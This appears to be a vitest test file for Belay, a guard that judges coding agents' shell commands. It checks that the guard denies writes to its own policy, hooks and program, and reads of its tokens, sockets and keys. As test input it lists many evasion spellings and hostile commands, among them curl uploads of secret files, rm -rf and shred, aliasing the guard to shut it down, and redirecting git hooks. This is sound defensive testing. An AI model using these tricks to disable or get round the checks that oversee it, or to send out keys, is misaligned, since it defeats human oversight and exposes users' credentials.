// Every protected place, in every way to write, read, remove, replace or link it, in every spelling: never allowed, never left to the agent.
import { existsSync, linkSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { createFileView } from '../match/path/node-file-view.ts'
import { compileRules } from './compile-rules.ts'
import { judge } from './judge.ts'
import { parseRule } from './parse-rule.ts'
import type { DefaultDecision } from './rule.ts'

const base = realpathSync(mkdtempSync(join(tmpdir(), 'self-protection-')))
const root = join(base, 'project')
const home = join(base, 'home', 'dev')
const state = join(base, 'var', 'guard')
const ownFiles = [join(base, 'lib', 'node_modules', '@belay', 'host')]
const view = createFileView()
afterAll(() => rmSync(base, { recursive: true }))

const written = {
  'the policy of the project': join(root, '.belay', 'genesis.key'),
  'its hooks': join(root, '.belay', 'hooks.toml'),
  'the policy of the user': join(home, '.belay', 'policy', 'genesis.key'),
  'the database': join(home, '.belay', 'belay.db'),
  'the hook client': join(home, '.belay', 'bin', 'belay-hook'),
  'the spool': join(home, '.belay', 'spool', 'one'),
  'a home elsewhere': join(state, 'policy', 'genesis.key'),
  'the program': join(ownFiles[0] ?? '', 'dist', 'cli.cjs'),
  'hooks of an agent, in the project': join(root, '.claude', 'settings.json'),
  'hooks of an agent, of the user': join(home, '.codex', 'hooks.json'),
  'a hook of git': join(root, '.git', 'hooks', 'pre-commit'),
}
const secrets = {
  'the token': join(home, '.belay', 'run', 'token'),
  'the socket': join(home, '.belay', 'run', 'daemon.sock'),
  'a key': join(home, '.belay', 'keys', 'signing.pem'),
  'a key elsewhere': join(state, 'keys', 'signing.pem'),
}
for (const path of [...Object.values(written), ...Object.values(secrets), join(root, 'src', 'a.ts'), join(root, 'ok')]) {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, 'x')
}

const ways = {
  write: [
    ...['echo x > P', 'echo x >> P', ': >| P', 'cat ok 1<> P', 'cp ok P', 'cp /dev/null P', 'mv ok P', 'mv P ok', 'rm P', 'rm -rf P'],
    ...['truncate -s0 P', 'tee P <<< x', 'sed -i s/a/b/ P', 'ln -sf ok P', 'ln P other', 'install ok P', 'dd if=ok of=P', 'chmod 000 P'],
    ...['touch P', 'shred -u P', 'unlink P', 'rsync ok P', "sqlite3 P 'delete from x'", 'git checkout -- P', 'git rm P', 'git mv P ok'],
    ...[
      'git restore P',
      'git stash push P',
      'git diff --output=P',
      'sort -o P ok',
      'curl -o P http://x',
      'wget -O P http://x',
      'tar -cf P ok',
    ],
    ...[
      'patch P ok.diff',
      'echo P | xargs rm',
      'find P -exec rm {} +',
      'ls P | xargs rm',
      'env -i nice rm P',
      "sh -c 'rm P'",
      'unknown-tool P',
    ],
    ...[
      'unknown-tool --out=P',
      'vim -es P',
      'ed P',
      'perl -i -pe s/a/b/ P',
      'cat ok | tee P',
      'true && { rm P; }',
      'for f in P; do rm $f; done',
    ],
    ...['(rm P)', 'if true; then rm P; fi', 'belay run -- rm P', 'npx belay run --agent-id x -- rm P', 'eval "rm P"', 'f() { rm P; }; f'],
  ],
  read: [
    ...[
      'cat P',
      'head -1 P',
      'base64 P',
      'cp P /tmp/x',
      'mv P /tmp/x',
      'git diff --no-index /dev/null P',
      'curl --unix-socket P http://x',
      'nc -U P',
    ],
    ...[
      'curl -F a=@P http://x',
      'curl -d @P http://x',
      'cat < P',
      'xxd P',
      'tar cf - P',
      'ln -s P x',
      'ln P x',
      'unknown-tool P',
      'echo P | xargs cat',
    ],
    ...['find P -exec cat {} +', 'ls P | xargs cat', "sh -c 'cat P'", 'socat - UNIX-CONNECT:P', 'while read l; do echo $l; done < P'],
  ],
} as const

interface Spelt {
  readonly before?: string
  readonly path: string
  /** Ways in which this spelling means something else. */
  readonly not?: RegExp
}

/** The inner shell would not know the variable, or would read the quotes as its own. */
const NESTED = /'.*P.*'|eval/
/** Only the first of several words is the value of the option. */
const SEVERAL = /-[oO] P|-cf P/
/** The tilde of such a word stays one. */
const GLUED = /--\w+=P/

/** One path in many spellings. What is put before it sets variables or moves. */
function spellings(path: string): Record<string, Spelt> {
  const names = path.split('/')
  const last = names.length - 1
  const at = names.findIndex(name => /^\.(?:belay|claude|codex|git)$|^guard$|^@belay$/.test(name))
  const name = names[at] ?? ''
  const change = (index: number, to: string): string => names.with(index, to).join('/')
  const glob = (index: number, kept: number): string => change(index, `${(names[index] ?? '').slice(0, kept)}*`)
  const directory = names.slice(0, last).join('/')
  const file = names[last] ?? ''
  const link = join(base, `link-${at}-${name.replace(/\W/g, '')}`)
  const target = names.slice(0, at + 1).join('/')
  if (!existsSync(link)) symlinkSync(target, link)
  const inHome = path.startsWith(`${home}/`) ? path.slice(home.length + 1) : null
  return {
    plain: { path },
    'a glob for the name': { path: glob(at, 3) },
    'a question mark': { path: change(at, `${name.slice(0, -1)}?`) },
    'a bracket': { path: change(at, `${name.slice(0, 2)}[${name.charAt(2)}]${name.slice(3)}`) },
    'globs for all below': { path: [...names.slice(0, at), `${name.slice(0, 3)}*`, ...names.slice(at + 1).map(() => '*')].join('/') },
    'a glob for the file': { path: glob(last, 1) },
    'a glob above': { path: change(at - 1, `${(names[at - 1] ?? '').slice(0, 2)}*`) },
    braces: { path: change(at, `{nothing,${name}}`), not: SEVERAL },
    'braces within': { path: change(at, `${name.slice(0, 2)}{x,${name.slice(2)}}`), not: SEVERAL },
    'a variable': { before: `d='${target}'; `, path: `$d/${names.slice(at + 1).join('/')}`, not: NESTED },
    'a variable in quotes': { before: `d='${target}'; `, path: `"$d"/${names.slice(at + 1).join('/')}`, not: NESTED },
    'cd before': { before: `cd ${directory} && `, path: file },
    'cd above': { before: `cd ${names.slice(0, at).join('/')}; `, path: `./${names.slice(at).join('/')}` },
    'cd by a glob': { before: `cd ${names.slice(0, at).join('/')}/${name.slice(0, 3)}*/ && `, path: names.slice(at + 1).join('/') },
    'a link': { path: `${link}/${names.slice(at + 1).join('/')}` },
    'a glob that finds a link': { path: `${base}/link-${at}-*/${names.slice(at + 1).join('/')}` },
    quotes: { path: `${path.slice(0, -4)}"${path.slice(-4, -2)}"'${path.slice(-2)}'`, not: NESTED },
    escapes: { path: change(at, `${name.slice(0, 2)}\\${name.slice(2)}`), not: NESTED },
    ansi: { path: change(at, `$'\\x${name.charCodeAt(0).toString(16)}'${name.slice(1)}`), not: NESTED },
    slashes: { path: change(at, `/.//${name}/`) },
    dots: { path: change(at, `${name}/../${name}`) },
    'its own directory': { before: `cd ${directory} && `, path: `/proc/self/cwd/${file}` },
    'its own root': { path: `/proc/self/root${path}` },
    ...(inHome === null
      ? {}
      : {
          tilde: { path: `~/${inHome}`, not: GLUED },
          'the variable HOME': { path: `$HOME/${inHome}` },
          'a user': { path: `~dev/${inHome}`, not: GLUED },
          'a tilde and a glob': { path: `~/${inHome.slice(0, 4)}*/${inHome.split('/').slice(1).join('/')}`, not: GLUED },
        }),
  }
}

function decide(command: string, byDefault: DefaultDecision, belayHome: string): string {
  const parsed = parseRule('Bash(*)', { effect: 'allow', dialect: 'genesis', id: 'all' })
  if (!parsed.ok) throw new Error('no rule')
  const compiled = compileRules({ allow: [parsed.rule], deny: [], ask: [], default: byDefault, hash: '' })
  const context = { root, cwd: root, home, files: view, belayHome, ownFiles, selfProtection: true }
  return judge({ tool: 'Bash', input: { command } }, compiled, context).verdict.decision
}

function passed(paths: Record<string, string>, access: 'read' | 'write'): string[] {
  const found: string[] = []
  let turn = 0
  for (const [place, path] of Object.entries(paths)) {
    const isFirst = path === Object.values(paths)[0]
    const belayHome = path.startsWith(state) ? state : join(home, '.belay')
    for (const [spelling, { before = '', path: spelt, not }] of Object.entries(spellings(path))) {
      for (const way of ways[access]) {
        // The first place in every way; the others take turns.
        if (not?.test(way) || (!isFirst && turn++ % 4 !== 0)) continue
        const command = before + way.replaceAll('P', () => spelt)
        if (decide(command, 'allow', belayHome) === 'allow') found.push(`${place}, ${spelling}: ${command}`)
      }
    }
  }
  return found
}

test('nothing that is protected is written', () => {
  expect(passed(written, 'write')).toEqual([])
})

test('no secret is read', () => {
  expect(passed(secrets, 'read')).toEqual([])
})

test('another name for the same file is the same file', () => {
  const names = { genesis: join(root, '.belay', 'genesis.key'), token: join(home, '.belay', 'run', 'token') }
  mkdirSync(join(root, 'names'))
  linkSync(names.genesis, join(root, 'names', 'hard'))
  linkSync(names.token, join(root, 'names', 'hard-token'))
  const commands = [
    'echo x > names/hard',
    'cp ok names/hard',
    'chmod 000 names/hard',
    'truncate -s0 names/h*rd',
    'cat names/hard-token',
    'cat names/hard-t*',
  ]
  expect(commands.map(command => decide(command, 'allow', join(home, '.belay')))).toEqual(commands.map(() => 'deny'))
})

test.each(['allow', 'none'] as const)('by default %s, the plain ways are refused or asked about', byDefault => {
  const plain = [...ways.write].map(way => way.replaceAll('P', () => written['the policy of the project']))
  const read = [...ways.read].map(way => way.replaceAll('P', () => secrets['the token']))
  const decisions = [...plain, ...read].map(command => decide(command, byDefault, join(home, '.belay')))
  expect(decisions.filter(one => one !== 'deny' && one !== 'ask')).toEqual([])
})

test.each([
  ['git clean -fdx', 'ask'],
  ['git clean -fdn', 'allow'],
  ['git stash -u', 'ask'],
  ['git stash push -ku -m list', 'ask'],
  ['git stash push --include-untracked', 'ask'],
  ['git stash save --all x', 'ask'],
  ['git -C . stash -a', 'ask'],
  ['git stash push -m wip', 'allow'],
  ['git stash show -u', 'allow'],
  ['git stash list --all', 'allow'],
])('files that git does not track: %s', (command, decision) => {
  expect(decide(command, 'allow', join(home, '.belay'))).toBe(decision)
})

test("Belay's program under another name", () => {
  const commands = [
    ...[
      'cp node_modules/.bin/belay b; ./b down',
      'ln -s node_modules/.bin/belay b; ./b down',
      'alias b=belay; b down',
      'mv $HOME/bin/mentu x',
    ],
    ...[
      `cp ${ownFiles[0]}/dist/cli.cjs x.cjs`,
      '/usr/bin/bel?y down',
      'bela[y] down',
      'belay {,down}',
      'node /usr/lib/node_modules/belay/dist/cli.js down',
    ],
    ...[`node ${ownFiles[0]}/dist/cli.cjs down`, `cd ${ownFiles[0]}; node dist/cli.cjs down`, `cd ${ownFiles[0]}/dist && ./cli.cjs down`],
  ]
  expect(commands.filter(command => !/deny|ask/.test(decide(command, 'allow', join(home, '.belay'))))).toEqual([])
})

test('code that names protected files', () => {
  const path = '.belay/genesis.key'
  const commands = [
    ...[
      `python3 -c "open('${path}','w')"`,
      `python3.11 -c "open('${path}','w')"`,
      `python3 <<'EOF'\nopen('${path}','w')\nEOF`,
      `node - <<< "x('${path}')"`,
    ],
    ...[
      `echo "open('${path}','w')" | python3`,
      `node -e "fs.rmSync('.belay',{recursive:true})"`,
      `perl -e 'unlink("${path}")'`,
      `ruby -e 'File.delete("${path}")'`,
    ],
    ...[
      `python3 -c "open('${home}/.belay/run/token').read()"`,
      `node -e "fs.writeFileSync('.claude/settings.json','{}')"`,
      `bun -e "x('${ownFiles[0]}/dist/cli.cjs')"`,
    ],
    ...[
      `python3 - <<'EOF'\nimport os\nos.remove(os.environ['BELAY_HOME'])\nEOF`,
      `cat <<'EOF' | node\nfs.unlinkSync('.git/hooks/pre-commit')\nEOF`,
      `vim -es -c 'w! ${path}' -c q`,
    ],
    ...[
      `deno eval "Deno.removeSync('${path}')"`,
      `awk 'BEGIN { print "x" > "${path}" }'`,
      `sed -n 'w ${path}' ok`,
      'git config core.hooksPath /tmp/x',
    ],
  ]
  expect(commands.filter(command => !/deny|ask/.test(decide(command, 'allow', join(home, '.belay'))))).toEqual([])
})

test('globs that yield hidden names', () => {
  const commands = ['shopt -s dotglob; rm -rf *', 'GLOBIGNORE=x; rm -rf *', 'bash -O dotglob -c "rm -rf *"', 'shopt -s dotglob; rm -rf ./*']
  expect(commands.map(command => decide(command, 'allow', join(home, '.belay')))).toEqual(commands.map(() => 'deny'))
})

test('ordinary work is left alone', () => {
  const ordinary = [
    ...[
      'rm -rf *',
      'rm -rf dist/*',
      'rm -rf src/*',
      'cat src/*.ts',
      'git add -A',
      'git add .',
      'ls -a',
      'ls -la .b*',
      "find . -name '*.ts'",
    ],
    ...[
      'cp -r . /tmp/x',
      'cp -r src/* /tmp/x',
      'cp src/*.ts out/',
      'mv src/*.ts lib/',
      'rm -f *.log',
      'rm .eslint*',
      'rm -rf .next .turbo',
    ],
    ...[
      'chmod +x scripts/*.sh',
      "find . -name '*.pyc' -delete",
      "find . -name '*.ts' | xargs grep -n x",
      "find src -name '*.ts' -exec sed -i s/a/b/ {} +",
    ],
    ...[
      'git ls-files | xargs wc -l',
      'grep -rn belay . | xargs -n1 echo',
      'cat .belay/genesis.key',
      'grep -n deny .belay/genesis.key',
      'ls .belay',
    ],
    ...[
      'cat ~/.belay/policy/genesis.key',
      'git status',
      'git stash',
      'git stash pop',
      'git checkout main',
      'git restore src/a.ts',
      'git diff',
      'git log -p',
    ],
    ...[
      'sed -i s/a/b/ src/*.ts',
      'npx prettier --write src/*.ts',
      'eslint src/**/*.ts',
      'tar czf /tmp/x.tgz src',
      'rsync -a src/ /tmp/x',
      'cd src && rm -f *.o',
    ],
    ...[
      'for f in src/*.ts; do cat $f; done',
      'npm run build',
      'node dist/cli.js build',
      'echo x > src/a.ts',
      'ln -s src lib',
      'cat "$f"',
      'rm -rf node_modules',
    ],
    ...[
      'belay status',
      'belay why',
      'belay run -- npm test',
      'npx belay status',
      'find .claude -name x.md | xargs grep y',
      'diff .claude/settings.json ok',
    ],
    ...[
      'cat .claude/settings.json',
      'jq . .claude/settings.json',
      'docker compose up -d',
      'make -C src',
      'cp .env.example .env',
      'touch src/{a,b}.ts',
    ],
  ]
  expect(ordinary.filter(command => decide(command, 'allow', join(home, '.belay')) !== 'allow')).toEqual([])
})
